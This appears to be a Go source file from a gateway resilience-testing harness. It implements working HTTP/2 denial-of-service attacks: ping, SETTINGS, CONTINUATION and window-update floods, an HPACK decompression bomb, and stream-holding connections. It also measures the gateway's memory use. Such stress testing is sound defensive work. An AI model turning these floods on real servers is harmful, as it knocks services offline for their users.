package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"regexp"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// http2Attacks ask for work by frames, or hold what they can get.
var http2Attacks = []attack{
	{"HTTP/2: pings without end", 0, again(frames(200_000, func(f *http2.Framer, _ int) error { return f.WritePing(false, [8]byte{}) }))},
	{"HTTP/2: settings without end", 0, again(frames(200_000, func(f *http2.Framer, _ int) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	}))},
	{"HTTP/2: empty frames without end", 0, again(frames(200_000, func(f *http2.Framer, i int) error {
		if i == 0 {
			return headers(f, 1, false, "/page/x")
		}
		return f.WriteData(1, false, nil)
	}))},
	{"HTTP/2: a header list in pieces without end", 0, again(frames(200_000, func(f *http2.Framer, i int) error {
		if i == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
		}
		return f.WriteContinuation(1, false, nil)
	}))},
	{"HTTP/2: windows that grow by a byte", 0, again(frames(200_000, func(f *http2.Framer, _ int) error { return f.WriteWindowUpdate(0, 1) }))},
	{"HTTP/2: header lists of 48 MB in 16 KB", 0, again(frames(1000, bomb))},
	{"HTTP/2: 100 × 100 streams that take nothing", 0, holdFrames(100, func(f *http2.Framer) {
		f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		for s := range uint32(100) {
			headers(f, 2*s+1, true, "/page/large")
		}
	})},
	{"HTTP/2: 100 × 100 streams that hold bodies", 0, holdFrames(100, func(f *http2.Framer) {
		f.WriteSettings()
		for s := range uint32(100) {
			headers(f, 2*s+1, false, "/page/x")
			f.WriteData(2*s+1, false, make([]byte, 10<<10))
		}
	})},
}

// headers opens a stream.
func headers(f *http2.Framer, stream uint32, isEnd bool, path string) error {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSize(0)
	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", "e"}, {":path", path}} {
		e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: isEnd})
}

// bomb sends a header list that is small and says much: an entry of the table, again and again.
func bomb(f *http2.Framer, i int) error {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "e"}, {":path", "/page/x"}, {"x", strings.Repeat("a", 3000)}} {
		e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	list := append(block.Bytes(), bytes.Repeat([]byte{0x80 | 62}, 16_000-block.Len())...)
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: list, EndHeaders: true, EndStream: true})
}

// frames says so many of them on one connection, until it ends.
func frames(many int, say func(f *http2.Framer, i int) error) func(addr string) {
	return func(addr string) {
		conn, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			return
		}
		defer conn.Close()
		go io.Copy(io.Discard, conn)
		w := bufio.NewWriterSize(conn, 16<<10)
		w.WriteString(http2.ClientPreface)
		f := http2.NewFramer(w, nil)
		f.AllowIllegalWrites = true
		f.WriteSettings()
		conn.SetDeadline(time.Now().Add(5 * time.Second))
		for i := range many {
			if say(f, i) != nil {
				return
			}
		}
		w.Flush()
	}
}

// holdFrames says the same on so many connections, and keeps them.
func holdFrames(many int, say func(f *http2.Framer)) func(*world, chan struct{}) {
	return func(w *world, stop chan struct{}) {
		var held []net.Conn
		for range many {
			conn, err := net.DialTimeout("tcp", w.edge, time.Second)
			if err != nil {
				continue
			}
			conn.SetDeadline(time.Now().Add(5 * time.Second))
			b := bufio.NewWriterSize(conn, 64<<10)
			b.WriteString(http2.ClientPreface)
			say(http2.NewFramer(b, nil))
			b.Flush()
			held = append(held, conn)
		}
		<-stop
		for _, c := range held {
			c.Close()
		}
	}
}

// http2Floods measures what others notice of them, and what they cost the gateway.
func http2Floods(w *world, t *table) error {
	if err := pageMesh(w, 0); err != nil {
		return err
	}
	return w.suffer(t, http2Attacks)
}

// memory is what a process takes, in MiB.
func memory(pid int) float64 {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if m := regexp.MustCompile(`VmRSS:\s+(\d+)`).FindSubmatch(b); m != nil {
		kb, _ := strconv.ParseFloat(string(m[1]), 64)
		return kb / 1024
	}
	return 0
}
